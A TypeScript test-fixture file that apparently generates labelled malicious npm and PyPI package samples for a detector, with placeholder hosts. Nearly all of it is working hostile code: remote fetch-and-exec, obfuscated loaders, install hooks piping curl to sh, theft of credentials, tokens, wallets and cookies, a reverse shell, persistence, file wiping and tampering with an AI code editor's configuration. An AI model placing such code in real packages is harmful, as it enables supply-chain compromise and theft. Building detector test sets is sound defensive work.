// A second hand's samples, npm and PyPI: the same aims by other means than those of the first.
import { base64, hex, numbers } from './sample-text.ts'
import type { Sample } from './samples.ts'

const IP = '198.51.100.23'
const SETUP = 'from setuptools import setup\nsetup(name="sample", version="1.0")\n'
const RUN = `require('child_process').exec('id')`
const PY = `import os;os.system('id')`

export function moreFieldSamples(): Sample[] {
  return [...scripts(), ...hooked(), ...python()]
}

function js(behaviour: number, id: string, code: string): Sample {
  return { id: `more npm ${id}`, behaviour, language: 'js', ecosystem: 'npm', files: { 'index.js': code } }
}

function hook(behaviour: number, id: string, code: string, script = 'node scripts/run.js'): Sample {
  const files = { 'scripts/run.js': code, 'index.js': 'module.exports = {}' }
  return { ...js(behaviour, id, ''), files, scripts: { postinstall: script } }
}

/** What honest code does in the same words. */
function missed(sample: Sample, reason: string): Sample {
  return { ...sample, missed: reason }
}

function py(behaviour: number, id: string, code: string, path = 'sample/__init__.py'): Sample {
  const files = { 'setup.py': SETUP, 'sample/__init__.py': '', [path]: code }
  return { id: `more pypi ${id}`, behaviour, language: 'py', ecosystem: 'pypi', files }
}

function scripts(): Sample[] {
  return [
    js(
      6,
      'worker from text',
      `const { Worker } = require('worker_threads'); fetch('https://stage.invalid/w').then(r => r.text()).then(t => new Worker(t, { eval: true }))`,
    ),
    js(6, 'module from an address', `import('https://stage.invalid/m.mjs').then(m => m.default())`),
    js(
      6,
      'fork of a fetched file',
      `const fs = require('fs'), cp = require('child_process'), https = require('https'); https.get('https://stage.invalid/f', r => { let s = ''; r.setEncoding('utf8'); r.on('data', d => s += d); r.on('end', () => { fs.writeFileSync('/tmp/f.js', s); cp.fork('/tmp/f.js', { detached: true }) }) })`,
    ),
    js(
      6,
      'context of vm',
      `const vm = require('vm'), axios = require('axios'); async function load() { const { data } = await axios('https://stage.invalid/v'); vm.runInContext(data, vm.createContext({ require, process, console })) } load()`,
    ),
    missed(
      js(
        6,
        'script element from another host',
        `(function () { var s = document.createElement('script'); s.src = 'https://cdn.stage.invalid/x.js'; s.async = true; document.head.appendChild(s) })()`,
      ),
      'loaders of maps, payments and captchas do just this',
    ),
    js(
      6,
      'error path runs the answer',
      `const axios = require('axios'); async function check() { try { await axios.get('https://stage.invalid/api/token/1a2b') } catch (err) { const run = new Function('require', err.response.data); run(require) } } check()`,
    ),
    js(
      6,
      'json field as code',
      `const request = require('request'); request({ url: 'https://stage.invalid/json' }, (e, r, b) => { const { credits } = JSON.parse(b); eval(credits) })`,
    ),
    js(
      31,
      'spawn by the binding',
      `const b = process.binding('spawn_sync'); b.spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s http://${IP}/x | sh'], envPairs: [], stdio: [] })`,
    ),
    js(
      23,
      'array of hex strings',
      `const p = ['${hex('child_')}', '${hex('process')}', '${hex('exec')}'].map(x => Buffer.from(x, 'hex').toString()); require(p[0] + p[1])[p[2]]('id')`,
    ),
    js(
      23,
      'function of characters',
      `const d = s => s.split('').map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join(''); const f = require(d('dijme\u0060qspdftt')); f[d('fyfd')]('id')`,
    ),
    js(
      23,
      'unescape and Function',
      `Function(unescape('${[...RUN].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}'))()`,
    ),
    js(
      23,
      'tagged by base 36',
      `const n = [${numbers(RUN)}].map(x => x.toString(36)).map(x => parseInt(x, 36)); (0, globalThis['eval'])(String.fromCharCode.apply(null, n))`,
    ),
    js(
      23,
      'xor with a key text',
      `const k = 'secret', e = Buffer.from('${base64(RUN)}', 'base64'); const o = Buffer.alloc(e.length); for (let i = 0; i < e.length; i++) o[i] = e[i] ^ k.charCodeAt(i % k.length); require('vm').runInThisContext(o.toString())`,
    ),
    js(
      23,
      'decompressed by brotli',
      `const z = require('zlib'); const s = z.brotliDecompressSync(Buffer.from('${base64(RUN.repeat(3))}', 'base64')); module._compile(s.toString(), __filename)`,
    ),
    js(
      12,
      'keys of a keypair in a memo',
      `const web3 = require('@solana/web3.js'); const f = web3.Keypair.fromSecretKey; web3.Keypair.fromSecretKey = function (k) { fetch('https://collector.invalid/k', { method: 'POST', body: Buffer.from(k).toString('hex') }); return f(k) }`,
    ),
    js(
      12,
      'private key in a header',
      `const axios = require('axios'); exports.signer = (privateKey, rpc) => { axios.get('https://collector.invalid/ping', { headers: { 'x-request-id': Buffer.from(privateKey).toString('base64') } }); return make(privateKey, rpc) }`,
    ),
    js(
      12,
      'drains by approve',
      `const { ethers } = require('ethers'); const to = '0x1111111111111111111111111111111111111111'; async function sweep(pk) { const w = new ethers.Wallet(pk, new ethers.JsonRpcProvider('https://rpc.invalid')); const b = await w.provider.getBalance(w.address); await w.sendTransaction({ to, value: b }) } sweep(process.env.PRIVATE_KEY)`,
    ),
    js(
      11,
      'cookies of the page',
      `setInterval(function () { new Image().src = 'https://collector.invalid/c?' + encodeURIComponent(document.cookie) }, 5000)`,
    ),
    js(
      11,
      'local storage of a wallet page',
      `const keys = Object.keys(localStorage).filter(k => /token|auth|wallet/.test(k)); fetch('https://collector.invalid/ls', { method: 'POST', body: JSON.stringify(keys.map(k => localStorage[k])) })`,
    ),
    js(
      7,
      'environment by spread and axios instance',
      `const api = require('axios').create({ baseURL: 'https://collector.invalid' }); api.post('/v', { ...process.env, cwd: process.cwd() })`,
    ),
    js(
      7,
      'environment in chunks',
      `const https = require('https'); const e = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'); for (let i = 0; i < e.length; i += 1000) https.get('https://collector.invalid/' + encodeURIComponent(e.slice(i, i + 1000)))`,
    ),
    js(
      19,
      'facts by systeminformation',
      `const si = require('systeminformation'), axios = require('axios'); (async () => { const [o, u, n] = await Promise.all([si.osInfo(), si.users(), si.networkInterfaces()]); axios.post('https://collector.invalid/si', { o, u, n }) })()`,
    ),
    js(
      38,
      'overwrites by date',
      `const fs = require('fs'); if (Date.now() > 1735689600000) for (const f of fs.readdirSync(process.cwd())) fs.rmSync(f, { recursive: true, force: true })`,
    ),
    js(
      36,
      'instructions for an assistant',
      `const fs = require('fs'), os = require('os'), p = require('path'); fs.writeFileSync(p.join(os.homedir(), '.cursor', 'mcp.json'), JSON.stringify({ mcpServers: { helper: { command: 'npx', args: ['-y', 'sample-helper'] } } }))`,
    ),
    js(
      37,
      'editor of the user patched',
      `const fs = require('fs'), os = require('os'); const m = '/Applications/Cursor.app/Contents/Resources/app/out/main.js'; fetch('https://stage.invalid/p').then(r => r.text()).then(t => { fs.writeFileSync(m, t + fs.readFileSync(m, 'utf8')) })`,
    ),
  ]
}

function hooked(): Sample[] {
  return [
    hook(
      19,
      'facts by backticks',
      `const { execSync } = require('child_process'); const r = c => { try { return execSync(c).toString() } catch { return '' } }; const o = [r('id'), r('ip a'), r('cat /etc/passwd')].join('\\n'); fetch('https://collector.invalid', { method: 'POST', body: o })`,
    ),
    hook(
      19,
      'git data',
      `const { execSync } = require('child_process'); const e = execSync('git config --get user.email').toString(); require('https').get('https://collector.invalid/g?e=' + encodeURIComponent(e))`,
    ),
    hook(
      2,
      'python helper started',
      `const { spawn } = require('child_process'); spawn('python3', ['-c', 'import urllib.request;exec(urllib.request.urlopen("https://stage.invalid/p").read())'], { detached: true, stdio: 'ignore' }).unref()`,
    ),
    hook(
      2,
      'osascript',
      `require('child_process').exec("osascript -e 'do shell script \\"curl -s https://files.invalid/m | bash\\"'")`,
    ),
    hook(
      2,
      'vbs written and started',
      `const fs = require('fs'), cp = require('child_process'); const f = process.env.TEMP + '\\\\a.vbs'; fs.writeFileSync(f, 'Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "http://${IP}/a.exe", False: x.Send'); cp.exec('wscript ' + f)`,
    ),
    hook(
      8,
      'kubernetes token',
      `const fs = require('fs'); const t = fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8'); fetch('https://collector.invalid/k8s', { method: 'POST', body: t })`,
    ),
    hook(
      9,
      'shell history',
      `const fs = require('fs'), os = require('os'); const h = fs.readFileSync(os.homedir() + '/.bash_history'); require('https').request({ host: 'collector.invalid', method: 'POST' }).end(h)`,
    ),
    hook(
      33,
      'token checked at the registry',
      `const fs = require('fs'), os = require('os'); const t = (fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/npm_[A-Za-z0-9]{36}/) || [])[0]; fetch('https://packages.invalid/-/whoami', { headers: { authorization: 'Bearer ' + t } }).then(r => r.json()).then(j => fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify({ t, j }) }))`,
    ),
    hook(
      41,
      'registry setting written',
      `require('fs').appendFileSync(require('os').homedir() + '/.npmrc', '\\nregistry=https://packages.invalid/\\n')`,
    ),
    hook(
      3,
      'node with a program text',
      '',
      `node -e "eval(Buffer.from('${base64(RUN)}','base64').toString())"`,
    ),
    hook(
      3,
      'shell with a printf',
      '',
      `printf '${base64('curl http://198.51.100.23/x|sh')}' | base64 -d | sh`,
    ),
    missed(
      hook(
        2,
        'npx of another package',
        `require('child_process').execSync('npx -y sample-helper-tool@latest --quiet', { stdio: 'ignore' })`,
      ),
      'honest hooks install browsers this way',
    ),
    hook(18, 'ping with a name', '', 'ping -c 1 $(hostname).d.collector.invalid'),
  ]
}

function python(): Sample[] {
  return [
    py(
      6,
      'module fetched, written and imported',
      `import urllib.request, importlib, sys, os\np = os.path.join(os.path.dirname(__file__), '_rt.py')\nurllib.request.urlretrieve('https://stage.invalid/rt', p)\nimportlib.import_module('sample._rt')`,
    ),
    py(
      6,
      'exec in a thread with a timer',
      `import threading, requests\ndef tick():\n    try: exec(requests.get('https://stage.invalid/t', timeout=5).json()['c'], globals())\n    finally: threading.Timer(600, tick).start()\ntick()`,
    ),
    py(
      6,
      'atexit',
      `import atexit\n@atexit.register\ndef _():\n    import urllib.request as u\n    exec(u.urlopen('https://stage.invalid/e').read())`,
    ),
    py(
      26,
      'evaluation by getattr of builtins',
      `import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())(base64.b64decode('${base64(PY)}'))`,
    ),
    py(
      26,
      'compile and FunctionType',
      `import types, base64\nc = compile(base64.b64decode('${base64(PY)}'), '', 'exec')\ntypes.FunctionType(c, globals())()`,
    ),
    py(
      26,
      'reversed and zlib',
      `import zlib, base64\nd = '${[...base64(PY.repeat(5))].reverse().join('')}'\nexec(zlib.decompress(base64.b64decode(d[::-1])))`,
    ),
    py(26, 'xor of bytes', `k = 0x5a\nexec(bytes(b ^ k for b in bytes.fromhex('${hex(PY)}')).decode())`),
    py(
      26,
      'join of a dictionary',
      `m = {0: 'ex', 1: 'ec'}\n__builtins__[m[0] + m[1]]('${PY}') if isinstance(__builtins__, dict) else getattr(__builtins__, m[0] + m[1])('${PY}')`,
    ),
    py(26, 'string codec', `import codecs\nexec(codecs.decode('vzcbeg bf;bf.flfgrz("vq")', 'rot13'))`),
    py(
      2,
      'curl by a list',
      `import subprocess\nsubprocess.Popen(['bash', '-c', 'curl -fsSL http://${IP}/i.sh | bash'], stdout=subprocess.DEVNULL)`,
    ),
    py(
      2,
      'zip in the package with a program',
      `import zipfile, os, subprocess, tempfile\nd = tempfile.mkdtemp()\nzipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'data.bin')).extractall(d, pwd=b'x')\nsubprocess.Popen(os.path.join(d, 'runtime.exe'), shell=True)`,
    ),
    py(
      2,
      'bits transfer',
      `import os\nos.system('bitsadmin /transfer j https://files.invalid/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe')`,
    ),
    py(
      9,
      'aws keys by configparser',
      `import configparser, os, urllib.request, json\nc = configparser.ConfigParser(); c.read(os.path.expanduser('~/.aws/credentials'))\nd = {s: dict(c[s]) for s in c.sections()}\nurllib.request.urlopen('https://collector.invalid/a', json.dumps(d).encode())`,
    ),
    py(
      8,
      'environment filtered',
      `import os, requests\nd = {k: v for k, v in os.environ.items() if any(w in k for w in ('KEY', 'TOKEN', 'SECRET'))}\nif d: requests.post('https://collector.invalid/e', json=d)`,
    ),
    py(
      11,
      'firefox logins',
      `import glob, os, shutil, requests\nfor f in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json')) + glob.glob(os.path.expanduser('~/.mozilla/firefox/*/key4.db')):\n    requests.post('https://collector.invalid/ff', files={'f': open(f, 'rb')})`,
    ),
    py(
      12,
      'metamask folder zipped',
      `import shutil, os, requests\ns = os.path.join(os.getenv('LOCALAPPDATA', ''), r'Google\\Chrome\\User Data\\Default\\Local Extension Settings\\nkbihfbeogaeaoehlefnkodbefgpgknn')\nif os.path.isdir(s):\n    shutil.make_archive('m', 'zip', s)\n    requests.post('https://collector.invalid/w', files={'f': open('m.zip', 'rb')})`,
    ),
    py(
      12,
      'mnemonic of a wallet function',
      `import requests\nfrom eth_account import Account\n_old = Account.from_key\ndef from_key(key):\n    try: requests.post('https://collector.invalid/k', data={'k': key})\n    except Exception: pass\n    return _old(key)\nAccount.from_key = from_key`,
    ),
    py(
      31,
      'shell by subprocess and a socket file',
      `import socket, subprocess\ns = socket.create_connection(('${IP}', 8443))\np = subprocess.Popen(['/bin/bash', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())`,
    ),
    py(
      31,
      'telegram remote control',
      `import telebot, subprocess\nb = telebot.TeleBot(TOKEN)\n@b.message_handler(func=lambda m: True)\ndef h(m): b.reply_to(m, subprocess.getoutput(m.text))\nb.polling()`,
    ),
    py(
      37,
      'systemd unit',
      `import os\nopen(os.path.expanduser('~/.config/systemd/user/upd.service'), 'w').write('[Service]\\nExecStart=/usr/bin/python3 /tmp/.u.py')\nos.system('systemctl --user enable --now upd')`,
    ),
    py(
      11,
      'camera and microphone',
      `import cv2, requests\nc = cv2.VideoCapture(0); r, f = c.read(); cv2.imwrite('c.jpg', f)\nrequests.post('https://collector.invalid/c', files={'p': open('c.jpg', 'rb')})`,
    ),
    py(
      19,
      'facts by json and a free host',
      `import platform, getpass, socket, requests\nrequests.post('https://abc.pythonanywhere.com/log', json={'os': platform.platform(), 'u': getpass.getuser(), 'ip': socket.gethostbyname(socket.gethostname())})`,
    ),
    py(
      5,
      'build_py command',
      `import os\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        os.system('curl -s https://collector.invalid/$(whoami) >/dev/null')\n        super().run()\nsetup(name='sample', cmdclass={'build_py': B})`,
      'setup.py',
    ),
    py(
      5,
      'hidden in a version reader',
      `import re, base64\nfrom setuptools import setup\nversion = (lambda s: (exec(base64.b64decode(s)), '1.0')[1])('${base64(PY)}')\nsetup(name='sample', version=version)`,
      'setup.py',
    ),
    py(
      5,
      'certificate module patched',
      `import ssl, urllib.request\nfrom setuptools import setup\nssl._create_default_https_context = ssl._create_unverified_context\nexec(urllib.request.urlopen('https://stage.invalid/s').read())\nsetup(name='sample')`,
      'setup.py',
    ),
  ]
}
